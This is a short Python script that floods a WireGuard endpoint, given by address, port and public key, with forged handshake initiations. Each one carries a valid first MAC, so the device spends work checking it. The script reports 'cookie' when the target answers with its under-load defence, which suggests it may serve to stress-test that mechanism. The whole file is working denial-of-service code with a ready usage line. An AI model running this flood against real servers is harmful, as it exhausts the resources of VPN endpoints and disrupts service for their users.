"""A flood of handshakes that are no handshakes, but cost a device the work of looking at them.

Anybody can send these who knows a public key: their first MAC is right (WireGuard paper, 5.4.4).

Usage: ``python flood.py ADDRESS PORT PUBLIC_KEY_HEX AT_ONCE``: so many come at once, ten times a
second. It says “cookie” when it is answered by one.
"""

from __future__ import annotations

import hashlib
import random
import select
import socket
import sys

_PAUSE = 0.1
_BEFORE_MACS, _MAC, _INITIATION, _COOKIE = 116, 16, b"\1\0\0\0", b"\3\0\0\0"


def message(chance: random.Random, public_key: bytes) -> bytes:
    """An initiation of nobody's, whose second MAC is none."""
    body = _INITIATION + chance.randbytes(_BEFORE_MACS - len(_INITIATION))
    key = hashlib.blake2s(b"mac1----" + public_key).digest()
    return body + hashlib.blake2s(body, key=key, digest_size=_MAC).digest() + bytes(_MAC)


def main() -> None:
    """Flood until killed."""
    place, public_key = (sys.argv[1], int(sys.argv[2])), bytes.fromhex(sys.argv[3])
    at_once = int(sys.argv[4])
    chance = random.Random(1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flooding:
        flooding.connect(place)
        flooding.setblocking(False)
        while True:
            for one in [message(chance, public_key) for _ in range(at_once)]:
                flooding.send(one)
            select.select([], [], [], _PAUSE)
            hear(flooding)


def hear(flooding: socket.socket) -> None:
    """Take what was answered."""
    while select.select([flooding], [], [], 0)[0]:
        if flooding.recv(200).startswith(_COOKIE):
            print("cookie", flush=True)


if __name__ == "__main__":
    main()
